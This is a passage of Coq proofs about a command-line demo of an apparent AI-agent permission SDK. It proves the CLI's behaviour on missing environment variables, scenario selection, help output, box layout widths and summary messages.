              [Cli.invalid_receipt] [entry Cli.spend; entry Cli.prod])
    as [Ht3 Ho3].
  destruct (runAll_cons tenantId agentId Cli.invalid_receipt []
              [entry Cli.spend; entry Cli.prod; entry Cli.message])
    as [Ht4 Ho4].
  cbn [app] in *. cbv zeta in *.
  change (negb (String.eqb (Cli.key Cli.spend) "invalid-receipt"))
    with true in Ht1.
  change (negb (String.eqb (Cli.key Cli.prod) "invalid-receipt"))
    with true in Ht2.
  change (negb (String.eqb (Cli.key Cli.message) "invalid-receipt"))
    with true in Ht3.
  change (negb (String.eqb (Cli.key Cli.invalid_receipt) "invalid-receipt"))
    with false in Ht4.
  cbv iota in Ht1, Ht2, Ht3, Ht4.
  subst output separator. cbv beta.
  rewrite Ho1, Ht1.
  destruct (outcome (Cli.run (scenarios Cli.spend) tenantId agentId))
    as [s1|u1]; [discriminate|].
  rewrite Ho2, Ht2.
  destruct (outcome (Cli.run (scenarios Cli.prod) tenantId agentId))
    as [s2|u2]; [discriminate|].
  rewrite Ho3, Ht3.
  destruct (outcome (Cli.run (scenarios Cli.message) tenantId agentId))
    as [s3|u3]; [discriminate|].
  rewrite Ho4, Ht4.
  destruct (outcome (Cli.run (scenarios Cli.invalid_receipt) tenantId agentId))
    as [s4|u4]; [discriminate|].
  intros _.
  change (trace (runAll tenantId agentId [] _)) with (@nil event).
  rewrite !app_nil_r. reflexivity.
Qed.

(** A line is among the plain lines of a run exactly when the run has
    the event that writes it. *)
Lemma logged_lines line tr :
  In (demo (Demo.console_log (Demo.text line))) tr <-> In line (lines tr).
Proof.
  induction tr as [|e tr IH]; [reflexivity|].
  destruct e as [[[opts|call|toolResult|s]|s|req|call]|opts| |cfg|req]; cbn;
    fold (lines tr); rewrite <- ?IH;
    try (split; [intros [H | H]; [discriminate H | exact H] | auto]).
  split.
  - intros [H | H]; [left; congruence | right; exact H].
  - intros [<- | H]; [left; reflexivity | right; exact H].
Qed.

Lemma lookup_key n : Cli.lookup (Cli.key n) = Cli.own n.
Proof. destruct n; reflexivity. Qed.

Lemma lookup_inherited name :
  In name Cli.ObjectPrototype -> Cli.lookup name = Cli.inherited.
Proof.
  unfold Cli.ObjectPrototype.
  intros H. repeat (destruct H as [<- | H]; [reflexivity|]). contradiction.
Qed.

Lemma lookup_undefined name :
  (forall n, name <> Cli.key n) -> ~ In name Cli.ObjectPrototype ->
  Cli.lookup name = Cli.undefined.
Proof.
  intros Hkey Hproto. unfold Cli.lookup.
  destruct (String.eqb_spec name (Cli.key Cli.spend)) as [H|_];
    [destruct (Hkey _ H)|].
  destruct (String.eqb_spec name (Cli.key Cli.prod)) as [H|_];
    [destruct (Hkey _ H)|].
  destruct (String.eqb_spec name (Cli.key Cli.message)) as [H|_];
    [destruct (Hkey _ H)|].
  destruct (String.eqb_spec name (Cli.key Cli.invalid_receipt)) as [H|_];
    [destruct (Hkey _ H)|].
  destruct (String.eqb_spec name (Cli.key Cli.trust_tests)) as [H|_];
    [destruct (Hkey _ H)|].
  destruct (existsb (String.eqb name) Cli.ObjectPrototype) eqn:E; [|reflexivity].
  apply existsb_exists in E. destruct E as (x & Hin & Hx).
  apply String.eqb_eq in Hx. subst x. contradiction.
Qed.

End World.

End CliFacts.

(** X15. When one of the three required variables is unset or empty,
    the command does nothing but report it: the two lines of
    [validateEnv] on stderr are its only events, the SDK is neither
    configured nor called, no header is printed, no scenario is run, and
    the process ends with exit code 1, whatever the options are. *)
Theorem action_stops_without_env
    (processEnv : gmap string string)
    (execute : Demo.ExecuteRequest -> Demo.Exn + Demo.ExecuteResult)
    (execute_any : Router.Request -> Router.Thrown + Demo.ExecuteResult)
    (Date_now : Scenarios.Scenario -> Z)
    (sendResult : Demo.SendCampaignInput -> Demo.ToolResult)
    (computeHash : Sdk.HashablePayloadV1 -> string)
    (options : Cli.Options) :
  let missing (name : string) :=
    processEnv !! name = None \/ processEnv !! name = Some EmptyString in
  let m := Cli.action processEnv execute execute_any Date_now sendResult
             computeHash options in
  missing "PP_ENDPOINT" \/ missing "PP_API_KEY" \/ missing "PP_TENANT_ID" ->
  Process.outcome m = inl (Process.process_exit 1) /\
  Process.trace m
  = map Process.demo (Demo.trace (Index.validateEnv processEnv)) /\
  length (Process.trace m) = 2 /\
  Process.sdkCalls (Process.trace m) = [] /\
  Process.lines (Process.trace m) = [].
Proof.
  intros missing m Hmissing.
  assert (Hexit : Demo.outcome (Index.validateEnv processEnv)
                  = inl (Demo.process_exit 1)).
  { rewrite IndexFacts.validateEnv_outcome. unfold missing in Hmissing.
    destruct Hmissing as [[H | H] | [[H | H] | [H | H]]]; rewrite H;
      repeat match goal with
        | |- context [match ?x with _ => _ end] => destruct x
        end; reflexivity. }
  destruct (CliFacts.action_without_env processEnv execute execute_any Date_now
              sendResult computeHash options Hexit) as [Ht Ho].
  fold m in Ht, Ho. rewrite Ht.
  split; [exact Ho|]. split; [reflexivity|].
  rewrite CliFacts.sdkCalls_demo, ReportFacts.validateEnv_trace.
  assert (Hf : Js.falsy_opt (processEnv !! "PP_ENDPOINT")
               || Js.falsy_opt (processEnv !! "PP_API_KEY")
               || Js.falsy_opt (processEnv !! "PP_TENANT_ID") = true).
  { unfold missing in Hmissing.
    destruct Hmissing as [[H | H] | [[H | H] | [H | H]]]; rewrite H; cbn;
      rewrite ?orb_true_r; reflexivity. }
  destruct (Js.falsy_opt (processEnv !! "PP_ENDPOINT"));
    [|destruct (Js.falsy_opt (processEnv !! "PP_API_KEY"));
      [|destruct (Js.falsy_opt (processEnv !! "PP_TENANT_ID"));
        [|discriminate Hf]]];
    repeat split; reflexivity.
Qed.

Lemma action_stops_without_env_witness :
  Process.sdkCalls (Process.trace (Cli.action
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_TENANT_ID" := "acme" ]}
    (fun _ => inr {| Demo.status := "APPROVED";
                     Demo.receipt := {| Demo.receiptId := "rec_1";
                                        Demo.reasonCodes := [] |} |})
    (fun _ => inl (Router.OtherError "fetch failed"))
    (fun _ => 1700000000000%Z)
    (fun _ => {| Demo.resultId := "msg_1"; Demo.success := true |})
    Sdk.computeHash
    {| Cli.all := true; Cli.scenario := None |}))
  = [].
Proof.
  refine (proj1 (proj2 (proj2 (proj2 (action_stops_without_env
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_TENANT_ID" := "acme" ]}
    _ _ _ _ _ _ _))))).
  right. left. left. reflexivity.
Defined.

(** X16. With [--all] the command runs spend, prod-write, message and
    the fail-closed scenario in this order and returns normally exactly
    when the SDK returns a result to each of the three gated scenarios
    and throws in the fail-closed one.  What it has written is then: the
    header, the output of the four scenarios in this order with a
    separator after each of the first three, and the summary.  The
    summary lists the four scenarios with the status each one expects
    and a mark that is always the check mark, and says that all
    scenarios completed as expected; the line for a mismatch is never
    written.  So the header, the separators and the summary are the same
    in every such run, and what the SDK decided, even APPROVED with the
    tool run, shows in the scenarios' own output only. *)
Theorem all_summary_as_expected
    (processEnv : gmap string string)
    (execute : Demo.ExecuteRequest -> Demo.Exn + Demo.ExecuteResult)
    (execute_any : Router.Request -> Router.Thrown + Demo.ExecuteResult)
    (Date_now : Scenarios.Scenario -> Z)
    (sendResult : Demo.SendCampaignInput -> Demo.ToolResult)
    (computeHash : Sdk.HashablePayloadV1 -> string)
    (options : Cli.Options) (cfg : Index.Config) :
  let m := Cli.action processEnv execute execute_any Date_now sendResult
             computeHash options in
  let gated s :=
    execute (Scenarios.request s (Index.tenantId cfg) (Index.agentId cfg)) in
  let failClosed :=
    execute_any
      (InvalidReceipt.request (Index.tenantId cfg) (Index.agentId cfg)) in
  let expected :=
    [ {| Printing.scenario := "Spending Money"; Printing.status := "DENIED";
         Printing.match_ := true |};
      {| Printing.scenario := "Writing to Production";
         Printing.status := "REQUIRES_APPROVAL"; Printing.match_ := true |};
      {| Printing.scenario := "Messaging Customers";
         Printing.status := "REQUIRES_APPROVAL"; Printing.match_ := true |};
      {| Printing.scenario := "Fail-Closed Behavior";
         Printing.status := "EXCEPTION"; Printing.match_ := true |} ] in
  let output name :=
    Process.trace
      (Cli.run
         (Cli.scenarios execute execute_any Date_now sendResult computeHash name)
         (Index.tenantId cfg) (Index.agentId cfg)) in
  let separator := Process.trace Printing.printSeparator in
  let logged line := Process.demo (Demo.console_log (Demo.text line)) in
  Demo.outcome (Index.validateEnv processEnv) = inr cfg ->
  Cli.all options = true ->
  (Process.outcome m = inr tt <->
     (exists r, gated Scenarios.spend = inr r) /\
     (exists r, gated Scenarios.prod = inr r) /\
     (exists r, gated Scenarios.message = inr r) /\
     (exists error, failClosed = inl error)) /\
  (Process.outcome m = inr tt ->
     Process.trace m
     = (Process.router_configure
          {| Router.endpoint := Index.endpoint cfg;
             Router.apiKey := Index.apiKey cfg; Router.timeoutMs := None |}
        :: Process.trace Printing.printHeader
        ++ output Cli.spend ++ separator
        ++ output Cli.prod ++ separator
        ++ output Cli.message ++ separator
        ++ output Cli.invalid_receipt
        ++ Process.trace (Printing.printSummary expected))%list /\
     In (logged (Output.colorize "  All scenarios completed as expected."
                   Output.green))
        (Process.trace m) /\
     ~ In (logged (Output.colorize
                     "  Some scenarios did not match expected status."
                     Output.yellow))
          (Process.trace m)).
Proof.
  intros m gated failClosed expected output separator logged Hvalid Hall.
  destruct (CliFacts.action_run processEnv execute execute_any Date_now
              sendResult computeHash options cfg Hvalid) as [Ht Ho].
  fold m in Ht, Ho. rewrite Ht, Ho. clear Ht Ho m.
  unfold CliFacts.afterHeader. rewrite Hall.
  rewrite ProcessFacts.trace_bind, ProcessFacts.outcome_bind;
    try apply CliFacts.appends_runAll;
    try (intros; apply CliFacts.appends_printSummary).
  destruct (CliFacts.runAll_order execute execute_any Date_now sendResult
              computeHash (Index.tenantId cfg) (Index.agentId cfg))
    as [Hout Hlines].
  pose proof (CliFacts.runAll_trace execute execute_any Date_now sendResult
                computeHash (Index.tenantId cfg) (Index.agentId cfg))
    as Htrace.
  cbv zeta in Hout, Hlines, Htrace. subst gated failClosed. cbv beta.
  rewrite Hout in *. clear Hout.
  destruct (execute (Scenarios.request Scenarios.spend _ _)) as [e1|r1];
    cbv beta iota.
  { split; [split|]; try discriminate. intros ([r H] & _). discriminate H. }
  destruct (execute (Scenarios.request Scenarios.prod _ _)) as [e2|r2];
    cbv beta iota.
  { split; [split|]; try discriminate. intros (_ & [r H] & _). discriminate H. }
  destruct (execute (Scenarios.request Scenarios.message _ _)) as [e3|r3];
    cbv beta iota.
  { split; [split|]; try discriminate.
    intros (_ & _ & [r H] & _). discriminate H. }
  destruct (execute_any (InvalidReceipt.request _ _)) as [e4|r4];
    cbv beta iota.
  2: { split; [split|]; try discriminate.
       intros (_ & _ & _ & [e H]). discriminate H. }
  destruct (Hlines _ eq_refl) as [Hl _]. clear Hlines.
  specialize (Htrace _ eq_refl).
  change (map _ Cli.scenarioOrder) with expected.
  assert (Hlist :
    Process.lines
      (Process.router_configure
         {| Router.endpoint := Index.endpoint cfg;
            Router.apiKey := Index.apiKey cfg; Router.timeoutMs := None |}
       :: Process.trace Printing.printHeader ++
          Process.trace
            (Cli.runAll execute execute_any Date_now sendResult computeHash
               (Index.tenantId cfg) (Index.agentId cfg) Cli.scenarioOrder []) ++
          Process.trace (Printing.printSummary expected))
    = (Process.lines (Process.trace Printing.printHeader)
       ++ CliFacts.separatorLines ++ CliFacts.separatorLines
       ++ CliFacts.separatorLines
       ++ Process.lines (Process.trace (Printing.printSummary expected)))%list).
  { change (Process.lines (?e :: ?l)) with (Process.lines l).
    rewrite !TrustFacts.lines_app, Hl. rewrite <- !app_assoc. reflexivity. }
  split.
  - split; [|reflexivity]. intros _.
    repeat split; eexists; reflexivity.
  - intros _. subst logged. cbv beta.
    rewrite !CliFacts.logged_lines, Hlist. split; [|split].
    + rewrite Htrace. subst output separator. cbv beta.
      rewrite <- !app_assoc. reflexivity.
    + vm_compute. do 23 right. left. reflexivity.
    + vm_compute. intros H.
      repeat (destruct H as [H|H]; [discriminate H|]). exact H.
Qed.

Lemma all_summary_as_expected_witness :
  In (Process.demo (Demo.console_log (Demo.text
        (Output.colorize "  All scenarios completed as expected."
           Output.green))))
     (Process.trace (Cli.action
        {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key";
           "PP_TENANT_ID" := "acme" ]}
        (fun _ => inr {| Demo.status := "APPROVED";
                         Demo.receipt := {| Demo.receiptId := "rec_1";
                                            Demo.reasonCodes := [] |} |})
        (fun _ => inl (Router.PermissionProtocolError "NOT_FOUND" "no such tool"))
        (fun _ => 1700000000000%Z)
        (fun _ => {| Demo.resultId := "msg_1"; Demo.success := true |})
        Sdk.computeHash
        {| Cli.all := true; Cli.scenario := Some "spend" |})).
Proof.
  pose proof (all_summary_as_expected
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key";
       "PP_TENANT_ID" := "acme" ]}
    (fun _ => inr {| Demo.status := "APPROVED";
                     Demo.receipt := {| Demo.receiptId := "rec_1";
                                        Demo.reasonCodes := [] |} |})
    (fun _ => inl (Router.PermissionProtocolError "NOT_FOUND" "no such tool"))
    (fun _ => 1700000000000%Z)
    (fun _ => {| Demo.resultId := "msg_1"; Demo.success := true |})
    Sdk.computeHash
    {| Cli.all := true; Cli.scenario := Some "spend" |}
    {| Index.endpoint := "https://pp.example"; Index.apiKey := "key";
       Index.tenantId := "acme"; Index.agentId := "demo-agent" |}) as H.
  cbv zeta in H. destruct H as [_ H]; [reflexivity | reflexivity |].
  refine (proj1 (proj2 (H _))).
  vm_compute. reflexivity.
Defined.

(** X17. With [--scenario name] and no [--all], the name is looked up
    in the object of the five scenario modules.  One of the five keys,
    [trust-tests] included, runs that scenario and nothing after it.  A
    name that is neither a key nor a property of [Object.prototype] is
    reported on stderr with the list of scenarios, which leaves
    [trust-tests] out, and the process ends with exit code 1.  A name
    that [Object.prototype] defines, such as [toString], is found, has
    no [run], and the action ends with a TypeError and no message of its
    own.  In each case the SDK was configured and the header printed
    before. *)
Theorem scenario_option_lookup
    (processEnv : gmap string string)
    (execute : Demo.ExecuteRequest -> Demo.Exn + Demo.ExecuteResult)
    (execute_any : Router.Request -> Router.Thrown + Demo.ExecuteResult)
    (Date_now : Scenarios.Scenario -> Z)
    (sendResult : Demo.SendCampaignInput -> Demo.ToolResult)
    (computeHash : Sdk.HashablePayloadV1 -> string)
    (options : Cli.Options) (cfg : Index.Config) (name : string) :
  let m := Cli.action processEnv execute execute_any Date_now sendResult
             computeHash options in
  let started :=
    Process.router_configure
      {| Router.endpoint := Index.endpoint cfg;
         Router.apiKey := Index.apiKey cfg; Router.timeoutMs := None |}
    :: Process.trace Printing.printHeader in
  let scenarios :=
    Cli.scenarios execute execute_any Date_now sendResult computeHash in
  Demo.outcome (Index.validateEnv processEnv) = inr cfg ->
  Cli.all options = false ->
  Cli.scenario options = Some name -> name <> EmptyString ->
  (forall key, name = Cli.key key ->
     let scenario :=
       Cli.run (scenarios key) (Index.tenantId cfg) (Index.agentId cfg) in
     Process.trace m = (started ++ Process.trace scenario)%list /\
     Process.outcome m = Process.outcome scenario) /\
  ((forall key, name <> Cli.key key) -> ~ In name Cli.ObjectPrototype ->
   Process.trace m =
     (started ++
      [ Process.demo (Demo.console_error ("Unknown scenario: " ++ name));
        Process.demo
          (Demo.console_error
             "Available scenarios: spend, prod, message, invalid-receipt") ])%list /\
   Process.outcome m = inl (Process.process_exit 1)) /\
  (In name Cli.ObjectPrototype ->
   Process.trace m = started /\
   Process.outcome m
   = inl (Process.thrown (Router.OtherError "scenario.run is not a function"))).
Proof.
  intros m started scenarios Hvalid Hall Hname Hne.
  destruct (CliFacts.action_run processEnv execute execute_any Date_now
              sendResult computeHash options cfg Hvalid) as [Ht Ho].
  fold m in Ht, Ho. rewrite Ht, Ho. clear Ht Ho m.
  unfold CliFacts.afterHeader. rewrite Hall, Hname.
  assert (Hf : negb (Js.falsy_opt (Some name)) = true)
    by (destruct name; [contradiction | reflexivity]).
  rewrite Hf. cbn [default from_option]. unfold id. cbv zeta.
  split; [|split].
  - intros key ->. rewrite CliFacts.lookup_key. split; reflexivity.
  - intros Hkey Hproto. rewrite (CliFacts.lookup_undefined _ Hkey Hproto).
    split; reflexivity.
  - intros Hproto. rewrite (CliFacts.lookup_inherited _ Hproto).
    split; [|reflexivity].
    subst started. cbn [app]. f_equal.
Qed.

Lemma scenario_option_lookup_witness :
  Process.outcome (Cli.action
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key";
       "PP_TENANT_ID" := "acme" ]}
    (fun _ => inr {| Demo.status := "DENIED";
                     Demo.receipt := {| Demo.receiptId := "rec_1";
                                        Demo.reasonCodes := [] |} |})
    (fun _ => inl (Router.OtherError "fetch failed"))
    (fun _ => 1700000000000%Z)
    (fun _ => {| Demo.resultId := "msg_1"; Demo.success := true |})
    Sdk.computeHash
    {| Cli.all := false; Cli.scenario := Some "toString" |})
  = inl (Process.thrown (Router.OtherError "scenario.run is not a function")).
Proof.
  refine (proj2 (proj2 (proj2 (scenario_option_lookup
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key";
       "PP_TENANT_ID" := "acme" ]}
    _ _ _ _ _ _
    {| Index.endpoint := "https://pp.example"; Index.apiKey := "key";
       Index.tenantId := "acme"; Index.agentId := "demo-agent" |}
    "toString" _ _ _ _)) _)).
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - discriminate.
  - vm_compute. do 8 right. left. reflexivity.
Defined.

(** X18. Without [--all], and with [--scenario] absent or given the
    empty string, the command prints its help after the header and
    returns: it configures the SDK and sends it no request, and runs no
    scenario. *)
Theorem no_scenario_prints_help
    (processEnv : gmap string string)
    (execute : Demo.ExecuteRequest -> Demo.Exn + Demo.ExecuteResult)
    (execute_any : Router.Request -> Router.Thrown + Demo.ExecuteResult)
    (Date_now : Scenarios.Scenario -> Z)
    (sendResult : Demo.SendCampaignInput -> Demo.ToolResult)
    (computeHash : Sdk.HashablePayloadV1 -> string)
    (options : Cli.Options) (cfg : Index.Config) :
  let m := Cli.action processEnv execute execute_any Date_now sendResult
             computeHash options in
  let configured :=
    Process.router_configure
      {| Router.endpoint := Index.endpoint cfg;
         Router.apiKey := Index.apiKey cfg; Router.timeoutMs := None |} in
  Demo.outcome (Index.validateEnv processEnv) = inr cfg ->
  Cli.all options = false ->
  Cli.scenario options = None \/ Cli.scenario options = Some EmptyString ->
  Process.outcome m = inr tt /\
  Process.trace m =
    (configured :: Process.trace Printing.printHeader
     ++ Process.trace Cli.help)%list /\
  Process.sdkCalls (Process.trace m) = [configured] /\
  Process.lines (Process.trace m) =
    (Process.lines (Process.trace Printing.printHeader)
     ++ Process.lines (Process.trace Cli.help))%list /\
  length (Process.lines (Process.trace Cli.help)) = 13.
Proof.
  intros m configured Hvalid Hall Hnone.
  destruct (CliFacts.action_run processEnv execute execute_any Date_now
              sendResult computeHash options cfg Hvalid) as [Ht Ho].
  fold m in Ht, Ho. rewrite Ht, Ho. clear Ht Ho m.
  unfold CliFacts.afterHeader. rewrite Hall.
  assert (Hf : negb (Js.falsy_opt (Cli.scenario options)) = false)
    by (destruct Hnone as [-> | ->]; reflexivity).
  rewrite Hf. repeat split.
Qed.

Lemma no_scenario_prints_help_witness :
  Process.outcome (Cli.action
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key";
       "PP_TENANT_ID" := "acme"; "PP_AGENT_ID" := "agent-7" ]}
    (fun _ => inl {| Demo.exn_code := "NETWORK_ERROR";
                     Demo.exn_message := "fetch failed" |})
    (fun _ => inl (Router.OtherError "fetch failed"))
    (fun _ => 1700000000000%Z)
    (fun _ => {| Demo.resultId := "msg_1"; Demo.success := true |})
    Sdk.computeHash
    {| Cli.all := false; Cli.scenario := Some EmptyString |})
  = inr tt.
Proof.
  refine (proj1 (no_scenario_prints_help
    {[ "PP_ENDPOINT" := "https://pp.example"; "PP_API_KEY" := "key";
       "PP_TENANT_ID" := "acme"; "PP_AGENT_ID" := "agent-7" ]}
    _ _ _ _ _ _
    {| Index.endpoint := "https://pp.example"; Index.apiKey := "key";
       Index.tenantId := "acme"; Index.agentId := "agent-7" |}
    _ _ _)).
  - reflexivity.
  - reflexivity.
  - right. reflexivity.
Defined.


(* ===================================================================== *)
(** * Properties of the rows and of the summary                           *)
(* ===================================================================== *)

Module BoxFacts.
Import Output.

(** The visible length of a text. *)
Definition visible (text : string) : nat := String.length (stripAnsi text).

Lemma plain_app a b : Visible.plain a -> Visible.plain b -> Visible.plain (a ++ b).
Proof.
  induction a as [|c a IH]; simpl; [auto|]. intros [Hc Ha] Hb. auto.
Qed.

Lemma stripAnsi_plain_app a b :
  Visible.plain a -> stripAnsi (a ++ b) = a ++ stripAnsi b.
Proof.
  induction a as [|c a IH]; [reflexivity|]. intros [Hc Ha].
  change (String c a ++ b) with (String c (a ++ b)).
  rewrite OutputFacts.stripAnsi_cons, (ColourFacts.matchAnsi_not_ESC c _ Hc).
  simpl. f_equal. apply IH, Ha.
Qed.

Lemma visible_padRight text (width : nat) :
  visible (padRight text (Z.of_nat width)) = Nat.max width (visible text).
Proof.
  unfold visible, padRight.
  rewrite OutputFacts.stripAnsi_app_spaces, string_length_app,
    repeat_space_length. lia.
Qed.

Lemma visible_le text : (visible text <= String.length text)%nat.
Proof. apply ColourFacts.stripAnsi_length. Qed.

Lemma visible_label label text :
  Visible.plain label ->
  visible (label ++ text) = (String.length label + visible text)%nat.
Proof.
  intros Hl. unfold visible.
  rewrite stripAnsi_plain_app, string_length_app by exact Hl. reflexivity.
Qed.

Lemma statusColor_colorize status :
  exists color, statusColor status = colorize status color.
Proof.
  unfold statusColor.
  repeat match goal with
    | |- context [if ?b then _ else _] => destruct b
    end; eexists; reflexivity.
Qed.

Lemma length_statusColor status :
  String.length (statusColor status) = (String.length status + 9)%nat.
Proof.
  unfold statusColor.
  repeat match goal with
    | |- context [if ?b then _ else _] => destruct b
    end; unfold colorize; rewrite !string_length_app; simpl; lia.
Qed.

Lemma visible_statusColor status : visible (statusColor status) = visible status.
Proof.
  destruct (statusColor_colorize status) as [color ->].
  unfold visible. rewrite ColourFacts.stripAnsi_colorize. reflexivity.
Qed.

End BoxFacts.

(** X19. The rows that show a truncated text never overflow the box:
    for every receipt ID and every error message, whatever they contain,
    the receipt row of [formatResult], its error-message row and the
    message row of [formatFailClosed] have a visible length of exactly
    [BOX_WIDTH - 2], so the right border stays in its column. *)
Theorem truncated_rows_fit_the_box (text : string) :
  let visible row := String.length (Output.stripAnsi row) in
  visible (Box.receiptRow text) = Z.to_nat (Output.BOX_WIDTH - 2) /\
  visible (Box.errorMessageRow text) = Z.to_nat (Output.BOX_WIDTH - 2) /\
  visible (Box.messageRow text) = Z.to_nat (Output.BOX_WIDTH - 2).
Proof.
  intros visible.
  change visible with BoxFacts.visible.
  unfold Box.receiptRow, Box.errorMessageRow, Box.messageRow, Box.innerWidth.
  cbv zeta.
  change (Output.BOX_WIDTH - 2)%Z with (Z.of_nat 63).
  rewrite !BoxFacts.visible_padRight, Nat2Z.id.
  pose proof (ColourFacts.truncate_length text 40 ltac:(lia)) as H1.
  pose proof (ColourFacts.truncate_length text (Output.BOX_WIDTH - 4 - 4)
                ltac:(unfold Output.BOX_WIDTH; lia)) as H2.
  pose proof (ColourFacts.truncate_length text (Output.BOX_WIDTH - 18)
                ltac:(unfold Output.BOX_WIDTH; lia)) as H3.
  unfold Output.BOX_WIDTH in H2, H3.
  pose proof (BoxFacts.visible_le (" Receipt ID:  " ++ Output.truncate text 40))
    as L1.
  pose proof (BoxFacts.visible_le
                ("   " ++ Output.truncate text (Output.BOX_WIDTH - 4 - 4))) as L2.
  pose proof (BoxFacts.visible_le
                (" Message:     " ++ Output.truncate text (Output.BOX_WIDTH - 18)))
    as L3.
  rewrite string_length_app in L1, L2, L3. unfold Output.BOX_WIDTH in *.
  simpl String.length in L1, L2, L3.
  repeat split; lia.
Qed.

(** X20. The rows that show a text as it is overflow exactly when the
    text is too long: the visible length of the scenario header row is
    the larger of 63, which is [BOX_WIDTH - 2], and 11 plus that of the
    name, and the decision row counts the status without the colour that
    [statusColor] wraps it in, so it fits for every status of at most 49
    visible characters, although the row then holds 72 code units, 9
    more than its 63 columns. *)
Theorem untruncated_rows_width (scenarioName status : string) :
  let visible row := String.length (Output.stripAnsi row) in
  visible (Box.headerRow scenarioName) = Nat.max 63 (11 + visible scenarioName) /\
  visible (Box.decisionRow status) = Nat.max 63 (14 + visible status) /\
  ((visible status <= 49)%nat -> visible (Box.decisionRow status) = 63%nat) /\
  (Visible.plain status -> (String.length status <= 49)%nat ->
   String.length (Box.decisionRow status) = 72%nat).
Proof.
  intros visible. change visible with BoxFacts.visible.
  unfold Box.headerRow, Box.decisionRow. cbv zeta.
  change (Output.BOX_WIDTH - 2)%Z with (Z.of_nat 63).
  assert (Hl1 : Visible.plain " SCENARIO: ")
    by (simpl; repeat split; discriminate).
  assert (Hl2 : Visible.plain " Decision:    ")
    by (simpl; repeat split; discriminate).
  split; [|split; [|split]].
  - rewrite BoxFacts.visible_padRight, BoxFacts.visible_label by exact Hl1.
    reflexivity.
  - rewrite BoxFacts.visible_padRight, BoxFacts.visible_label,
      BoxFacts.visible_statusColor by exact Hl2.
    reflexivity.
  - intros Hfit.
    rewrite BoxFacts.visible_padRight, BoxFacts.visible_label,
      BoxFacts.visible_statusColor by exact Hl2.
    change (String.length " Decision:    ") with 14%nat. lia.
  - intros Hplain Hlen.
    pose proof (BoxFacts.visible_label " Decision:    "
                  (Output.statusColor status) Hl2) as Hv.
    rewrite BoxFacts.visible_statusColor in Hv. unfold BoxFacts.visible in Hv.
    rewrite (ColourFacts.stripAnsi_plain status Hplain) in Hv.
    unfold Output.padRight.
    rewrite string_length_app, repeat_space_length, Hv, string_length_app,
      BoxFacts.length_statusColor.
    change (String.length " Decision:    ") with 14%nat. lia.
Qed.

Module SummaryFacts.
Import Process ProcessFacts.

Lemma forEach_run {A} (l : list A) (f : A -> M unit) :
  (forall a, appends (f a)) -> (forall a, outcome (f a) = inr tt) ->
  trace (forEach l f) = flat_map (fun a => trace (f a)) l /\
  outcome (forEach l f) = inr tt.
Proof.
  intros Hf Ho. induction l as [|a l [IHt IHo]]; [split; reflexivity|].
  cbn [forEach flat_map].
  rewrite trace_bind, outcome_bind, Ho, IHt, IHo;
    try apply Hf; try (intros _; apply appends_forEach, Hf).
  split; reflexivity.
Qed.

Lemma lines_cons_text line tr :
  lines (demo (Demo.console_log (Demo.text line)) :: tr) = line :: lines tr.
Proof. reflexivity. Qed.

(** The line of the summary for one entry. *)
Definition entryLine (r : Printing.Result) : string :=
  "  " ++ (if Printing.match_ r then Output.colorize "✓" Output.green
           else Output.colorize "✗" Output.red)
  ++ " " ++ Printing.scenario r ++ ": " ++ Output.statusColor (Printing.status r).

Definition asExpected : string :=
  Output.colorize "  All scenarios completed as expected." Output.green.

Definition mismatch : string :=
  Output.colorize "  Some scenarios did not match expected status." Output.yellow.

Lemma printSummary_lines results :
  lines (trace (Printing.printSummary results)) =
    ([ EmptyString; Output.colorize "  Summary" Output.bold;
       Output.colorize "  ───────" Output.dim ]
     ++ map entryLine results
     ++ [ EmptyString;
          if forallb Printing.match_ results then asExpected else mismatch;
          EmptyString ])%list /\
  outcome (Printing.printSummary results) = inr tt.
Proof.
  unfold Printing.printSummary. cbv zeta.
  set (f := fun r : Printing.Result => console_log _).
  assert (Hf : forall r, appends (f r)) by (intros r; apply appends_emit).
  destruct (forEach_run results f Hf (fun _ => eq_refl)) as [Ht Ho].
  assert (Hfe : appends (forEach results f)) by apply appends_forEach, Hf.
  assert (Hlines : lines (flat_map (fun a => trace (f a)) results)
                   = map entryLine results).
  { clear. induction results as [|r results IH]; [reflexivity|].
    cbn [flat_map map]. rewrite TrustFacts.lines_app, IH. reflexivity. }
  repeat match goal with
    | |- context [trace (?m ≫= ?k)] =>
        rewrite (trace_bind m k), (outcome_bind m k);
        [ | appends; try exact Hfe .. ]
    end.
  rewrite Ht, Ho.
  destruct (forallb Printing.match_ results);
    cbn [trace outcome console_log emit fst snd app];
    rewrite !lines_cons_text, TrustFacts.lines_app, Hlines;
    split; reflexivity.
Qed.

Lemma entryLine_not_verdict r : entryLine r <> asExpected /\ entryLine r <> mismatch.
Proof. unfold entryLine. split; discriminate. Qed.

Lemma all_match results :
  forallb Printing.match_ results = true
  <-> Forall (fun r => Printing.match_ r = true) results.
Proof. rewrite forallb_forall, List.Forall_forall. reflexivity. Qed.

Lemma some_mismatch results :
  forallb Printing.match_ results = false
  <-> Exists (fun r => Printing.match_ r = false) results.
Proof.
  rewrite List.Exists_exists. split.
  - intros H. induction results as [|r results IH]; [discriminate H|].
    cbn in H. destruct (Printing.match_ r) eqn:Hr.
    + destruct (IH H) as (x & Hin & Hx). exists x. split; [right|]; assumption.
    + exists r. split; [left; reflexivity | exact Hr].
  - intros (x & Hin & Hx). apply not_true_is_false. intros Ht.
    rewrite forallb_forall in Ht. rewrite (Ht x Hin) in Hx. discriminate Hx.
Qed.

End SummaryFacts.

(** X21. [printSummary] writes one line per entry, in order, between
    three lines of heading and three of closing, and returns.  It says
    that all scenarios completed as expected exactly when every entry
    has [match] true, so also for no entry at all, and that some did not
    match exactly when one entry has [match] false; the status shown is
    the one the entry carries. *)
Theorem printSummary_verdict (results : list Printing.Result) :
  let m := Printing.printSummary results in
  let written := Process.lines (Process.trace m) in
  Process.outcome m = inr tt /\
  length written = (length results + 6)%nat /\
  (In (Output.colorize "  All scenarios completed as expected." Output.green)
      written
   <-> Forall (fun r => Printing.match_ r = true) results) /\
  (In (Output.colorize "  Some scenarios did not match expected status."
         Output.yellow) written
   <-> Exists (fun r => Printing.match_ r = false) results) /\
